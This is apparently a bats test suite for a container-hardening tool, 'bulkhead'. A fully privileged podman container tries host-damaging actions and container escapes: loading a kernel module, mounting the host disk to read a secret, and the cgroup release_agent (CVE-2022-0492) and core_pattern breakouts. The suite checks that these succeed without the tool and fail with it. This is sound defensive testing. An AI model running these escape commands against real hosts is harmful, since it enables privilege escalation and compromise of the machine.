#!/usr/bin/env bats
# The talk's calls for real, where a machine may be spoilt: a module loaded, the disk mounted, the clock set, swap turned on, the
# kernel made to run a program of the container's (core_pattern, release_agent: CVE-2022-0492). One container with everything
# that an operator can give away does all of it to the host; the same under bulkhead does none.

# shellcheck disable=SC2016 # what stands in single quotes is for the container
load helpers
load guest

DIR=/var/lib/guest-destructive

setup_file() {
  has guest podman || return 0
  guest_install
  guest_policy <<-END
	[namespaces]
	host = "allow"
	END
  bulkhead setup
  mkdir -p $DIR/out $DIR/nohooks
  dd if=/dev/zero of=$DIR/swap bs=1M count=4 status=none
  chmod 600 $DIR/swap && mkswap -q $DIR/swap
  modprobe -r loop || true
  local module
  module=$(modinfo -n loop)
  case $module in
    *.xz) busybox xzcat "$module" >$DIR/loop.ko ;;
    *) cp "$module" $DIR/loop.ko ;;
  esac
  # what the kernel is made to run, as root and in the host's namespaces
  for way in core_pattern release_agent; do
    printf '#!/bin/sh\necho "%s from pid namespace $(readlink /proc/self/ns/pid)" >>%s/out/escaped\n' $way $DIR >$DIR/by-$way
    chmod 755 $DIR/by-$way
  done
  for runtime in runc crun; do
    printf '#!/bin/sh\nexec /usr/bin/bulkhead-runtime --bulkhead-runtime %s --bulkhead-hooks none "$@"\n' "$runtime" >$DIR/wrapped-$runtime
    chmod 755 $DIR/wrapped-$runtime
  done
  cat /proc/sys/kernel/core_pattern >$DIR/core_pattern
}
teardown_file() {
  has guest podman || return 0
  modprobe loop
  guest_uninstall
}
setup() { requires guest podman; }

# mend: the host as it was.
mend() {
  cat $DIR/core_pattern >/proc/sys/kernel/core_pattern
  swapoff $DIR/swap 2>/dev/null || true
  modprobe -r loop 2>/dev/null || true
  hostname guest
  rm -f $DIR/out/*
  touch $DIR/out/escaped
}

# What is tried; each line is said only if it was done.
TRIES='
insmod /d/loop.ko && echo DONE module
swapon /d/swap && echo DONE swap
hostname owned && echo DONE hostname
date -s "@$(($(date +%s) + 300))" >/dev/null
mknod /tmp/disk b $DISK && echo DONE mknod
mkdir -p /tmp/m && mount -t ext4 /tmp/disk /tmp/m && cat /tmp/m/etc/guest-secret && echo DONE disk
mkdir -p /tmp/c && mount -t cgroup -o none,name=escape escape /tmp/c && mkdir /tmp/c/x && {
  echo 1 >/tmp/c/x/notify_on_release; echo "$DIR/by-release_agent" >/tmp/c/release_agent && echo DONE release_agent
  sh -c "echo \$\$ >/tmp/c/x/cgroup.procs"; sleep 1; }
echo "|$DIR/by-core_pattern" >/proc/sys/kernel/core_pattern && echo DONE core_pattern
sh -c "kill -SEGV \$\$"; sleep 1
echo end'
GIFTS=(--rm --network none --uts host --cap-add all --security-opt seccomp=unconfined --security-opt apparmor=unconfined --security-opt label=disable
  --cgroupns host --security-opt unmask=ALL --device-cgroup-rule 'b *:* rwm' -v "$DIR:/d" -e "DIR=$DIR")

# offset: the wall clock beside the monotonic one, s
offset() { awk -v now="$(date +%s.%N)" '{printf "%d", now - $1}' /proc/uptime; }

tries() { # PODMAN-OPTION...
  mend
  before=$(offset)
  run podman "$@" run "${GIFTS[@]}" -e DISK="$(findmnt -no MAJ:MIN / | tr : ' ')" "$IMAGE" sh -c "$TRIES"
  moved=$(($(offset) - before))
  [ $moved -lt 250 ] || date -s "-$moved seconds" >/dev/null
  echo "clock moved by $moved s"
  contains "$output" end
}

@test "destructive: without bulkhead a container that was given everything loads a module, mounts the disk, and the kernel runs its program on the host" {
  echo SECRET >/etc/guest-secret
  tries --hooks-dir $DIR/nohooks --runtime crun
  contains "$output" "DONE module" "DONE swap" "DONE hostname" "DONE mknod" SECRET "DONE disk" "DONE release_agent" "DONE core_pattern"
  [ -d /sys/module/loop ]
  [ "$(wc -l </proc/swaps)" -gt 1 ]
  [ $moved -ge 250 ]
  eventually grep -qF "core_pattern from pid namespace $(readlink /proc/1/ns/pid)" $DIR/out/escaped
  eventually grep -qF "release_agent from pid namespace $(readlink /proc/1/ns/pid)" $DIR/out/escaped
  mend
}

none_done() {
  tries "$@"
  lacks "$output" DONE SECRET
  [ ! -d /sys/module/loop ]
  [ "$(wc -l </proc/swaps)" -eq 1 ]
  [ $moved -lt 250 ]
  [ "$(hostname)" = guest ]
  cmp $DIR/core_pattern /proc/sys/kernel/core_pattern
  [ ! -s $DIR/out/escaped ] || fail "$(cat $DIR/out/escaped)"
}

@test "destructive: none of it with precreate-harden, by crun" { none_done --runtime crun; }
@test "destructive: none of it with precreate-harden, by runc" { none_done --runtime runc; }
@test "destructive: none of it through bulkhead-runtime over crun, without hooks" { none_done --hooks-dir $DIR/nohooks --runtime $DIR/wrapped-crun; }
@test "destructive: none of it through bulkhead-runtime over runc, without hooks" { none_done --hooks-dir $DIR/nohooks --runtime $DIR/wrapped-runc; }

# reboot(2) in a PID namespace ends its first process by a signal instead of the machine.
rebooted() {
  run podman "$@" run "${GIFTS[@]}" "$IMAGE" sh -c '(reboot -f); sleep 3; echo alive'
  echo "status $status"
}

@test "destructive: reboot(2) ends the container's namespace without bulkhead, and is refused with it" {
  rebooted --hooks-dir $DIR/nohooks --runtime crun
  lacks "$output" alive
  for runtime in crun runc; do
    rebooted --runtime $runtime
    contains "$output" alive
  done
  rebooted --hooks-dir $DIR/nohooks --runtime $DIR/wrapped-crun
  contains "$output" alive
}
